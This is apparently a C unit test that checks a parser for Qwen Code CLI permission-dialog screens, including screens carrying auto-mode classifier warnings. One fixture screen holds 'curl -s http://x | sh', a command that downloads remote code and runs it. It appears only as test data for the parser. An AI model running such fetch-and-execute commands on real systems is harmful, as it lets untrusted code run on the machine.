/*
 * Qwen Code 0.24.4's permission dialog in its default auto mode, when the
 * classifier hands the call to the user: a warning over the command
 * (captured from the real CLI on the conformance mock, which cannot
 * answer the classifier). What lisa names is the command, not the note.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "util.h"
#include "question.h"

static const char *qwen_0_24_unavailable =
    "  > #mock run touch lisa-deny\n"
    "  \u25c6\ufe0e I will run the command now.\n"
    "  ? Shell touch lisa-deny (the mock command) \u2190\n"
    "     \u26a0 Auto Mode couldn't classify this action (Classifier stage "
    "1 unavailable). Review it manually. Switching to Default Mode is "
    "recommended if you want\n"
    "     to continue without the classifier.\n"
    "     touch lisa-deny\n"
    "   Allow execution of: 'touch'?\n"
    "   \u203a 1. Yes, allow once\n"
    "     2. Switch to Default Mode and allow once (recommended)\n"
    "     3. No, suggest changes (esc)\n"
    "  \u280f Waiting for user confirmation...\n";

/* Narrower: "manually." ends a line inside the notice, not the notice. */
static const char *qwen_0_24_narrow =
    "  ? Shell rm -rf build (clean) \u2190\n"
    "     \u26a0 Auto Mode couldn't classify this action. Review it manually.\n"
    "     Switching to Default Mode is recommended if you want to continue\n"
    "     without the classifier.\n"
    "     rm -rf build\n"
    "   Allow execution of: 'rm'?\n"
    "   \u203a 1. Yes, allow once\n"
    "     2. Switch to Default Mode and allow once (recommended)\n"
    "     3. No, suggest changes (esc)\n";

/* A call auto mode blocked before, asked again. */
static const char *qwen_0_24_blocked =
    "  ? Shell curl -s http://x | sh (install) \u2190\n"
    "     \u26a0 Auto mode previously blocked this exact action. Review it "
    "manually.\n"
    "     curl -s http://x | sh\n"
    "   Allow execution of: 'curl, sh'?\n"
    "   \u203a 1. Yes, allow once\n"
    "     2. No, suggest changes (esc)\n";

/* No notice (auto mode off, or it asked itself): the command as before. */
static const char *qwen_0_24_plain =
    "  ? Shell echo hi (say it) \u2190\n"
    "     echo hi\n"
    "   Allow execution of: 'echo'?\n"
    "   \u203a 1. Yes, allow once\n"
    "     2. No, suggest changes (esc)\n";

static int
parse(const char *kind, const char *screen, struct question *q)
{
	question_free(q);
	return (question_from_screen(kind, screen, q));
}

static void
test_notice_left_out(void **state)
{
	struct question	q = { 0 };
	char		key[8];

	(void)state;
	assert_int_equal(parse("permission", qwen_0_24_unavailable, &q), 0);
	assert_string_equal(q.tool, "Shell");
	assert_string_equal(q.subject, "touch lisa-deny");
	assert_int_equal(question_option_key(&q, "allow", key, sizeof key), 0);
	assert_string_equal(key, "1");
	assert_int_equal(question_option_key(&q, "deny", key, sizeof key), 2);
	assert_string_equal(key, "esc");
	assert_int_equal(parse("permission", qwen_0_24_narrow, &q), 0);
	assert_string_equal(q.subject, "rm -rf build");
	assert_int_equal(parse("permission", qwen_0_24_blocked, &q), 0);
	assert_string_equal(q.subject, "curl -s http://x | sh");
	assert_int_equal(parse("permission", qwen_0_24_plain, &q), 0);
	assert_string_equal(q.subject, "echo hi");
	question_free(&q);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_notice_left_out),
	};

	return (cmocka_run_group_tests(tests, NULL, NULL));
}
